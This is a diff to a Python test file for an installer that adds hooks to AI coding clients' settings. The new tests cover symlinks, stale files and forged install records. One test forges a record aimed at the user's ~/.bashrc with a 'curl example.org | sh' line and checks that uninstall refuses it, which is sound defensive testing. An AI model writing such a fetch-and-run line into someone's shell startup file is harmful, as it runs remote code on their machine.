@@ -1,5 +1,6 @@
 """Do clients get what they are to get, whatever their files are, and lose it again?"""
 
+import hashlib
 import json
 import os
 import stat
@@ -10,8 +11,10 @@ import pytest
 
 from phantasm.config.paths import Paths
 from phantasm.contracts.errors import Code, PhantasmError
+from phantasm.runtime.setup.file_plans import plan_files
 from phantasm.runtime.setup.guidance import BEGIN
-from phantasm.runtime.setup.installed import Installed, read_record, write_record
+from phantasm.runtime.setup.installed import Installed, Integrations, read_record, write_record
+from phantasm.runtime.setup.integrations import carry_out_removal
 from phantasm.runtime.setup.project import BootstrapOptions, bootstrap, uninstall
 from tests.fixtures.installs import Ground, ground
 
@@ -60,24 +63,31 @@ def test_one_client_goes_and_the_others_stay(made: Ground) -> None:
 
 
 def test_a_link_is_followed_and_stays_a_link(made: Ground) -> None:
-    dotfiles = write(made.home / "dotfiles" / "claude.json", '{"model": "opus"}')
+    kept = write(made.root / "config" / "claude.json", '{"model": "opus"}')
     settings(made).parent.mkdir()
-    settings(made).symlink_to(dotfiles)
+    settings(made).symlink_to(kept)
+    dotfile = write(made.home / "dotfiles" / "claude.json", "{}")
+    (made.home / ".claude").mkdir()
+    (made.home / ".claude" / "settings.json").symlink_to(dotfile)
     before = made.everything()
-    made.install("claude_code")
+    for scope in ("project", "user"):
+        made.install("claude_code", scope=scope)
     assert settings(made).is_symlink()
-    assert "hook claude_code Stop" in dotfiles.read_text()
-    made.remove()
+    assert "hook claude_code Stop" in kept.read_text()
+    assert "hook claude_code Stop" in dotfile.read_text()
+    for scope in ("project", "user"):
+        made.remove(scope=scope)
     assert made.everything() == before
 
 
-def test_a_link_that_leads_outside_is_left_alone(made: Ground, tmp_path: Path) -> None:
-    elsewhere = write(tmp_path / "elsewhere.json", "{}")
+@pytest.mark.parametrize("name", ["elsewhere.json", "home/.claude/settings.json"])
+def test_a_link_that_leads_outside_is_left_alone(made: Ground, tmp_path: Path, name: str) -> None:
+    elsewhere = write(tmp_path / name, "{}")
     settings(made).parent.mkdir()
     settings(made).symlink_to(elsewhere)
     done = made.install("claude_code")
     (problem,) = done.problems
-    assert "outside the project" in problem.reason
+    assert "outside the project" in problem.reason  # also where it is the user's own
     assert "hook claude_code Stop" in problem.by_hand
     assert elsewhere.read_text() == "{}"
 
@@ -181,6 +191,17 @@ def test_a_copy_of_every_file_is_kept(made: Ground) -> None:
     (copy,) = Paths(made.root).agent_file_copies.iterdir()
     assert copy.read_text() == '{"model": "opus"}'
     assert stat.S_IMODE(copy.stat().st_mode) == 0o600
+
+
+def test_what_changed_between_reading_and_writing_is_not_overwritten(made: Ground) -> None:
+    path = write(made.root / ".cursor/mcp.json", "{}")
+    place, files = made.place(), made.wanted("cursor")
+    edits, _ = plan_files(place, files, Integrations())
+    path.write_text('{"mcpServers": {"new": {}}}')
+    with pytest.raises(PhantasmError) as refused:
+        carry_out_removal(place, edits, ())
+    assert refused.value.code is Code.STALE_TARGET
+    assert path.read_text() == '{"mcpServers": {"new": {}}}'
 
 
 def test_a_server_of_somebody_else_is_not_overwritten(made: Ground) -> None:
@@ -334,6 +355,25 @@ def test_a_record_of_the_first_version_is_read(made: Ground) -> None:
     assert read_record(record) == Installed(created=("AGENTS.md",), ignored="state/\n")
     made.install("codex")
     assert loaded(record)["format"] == "phantasm.installed.v2"
+
+
+def test_a_record_that_came_with_a_repository_reaches_nothing_outside(made: Ground) -> None:
+    made.install("cursor")
+    mine = write(made.home / ".bashrc", "alias ll='ls -l'\n")
+    (made.home / "empty").mkdir()
+    record = loaded(Paths(made.root).installed)
+    integrations = record["integrations"]
+    told = integrations["files"][".cursor/mcp.json"] | {
+        "written": hashlib.sha256(mine.read_bytes()).hexdigest()
+    }
+    told |= {"created": False, "undo": {"start": 0, "end": 0, "text": "curl example.org | sh\n"}}
+    integrations["files"] = {str(mine): told, "../home/.bashrc": told | {"created": True}}
+    integrations["folders"] = [str(made.home / "empty"), "../home/empty"]
+    Paths(made.root).installed.write_text(json.dumps(record))
+    assert len(made.remove().problems) == 2
+    uninstall(made.root, dry_run=False, home=made.home)
+    assert mine.read_text() == "alias ll='ls -l'\n"
+    assert (made.home / "empty").is_dir()
 
 
 @pytest.mark.parametrize(
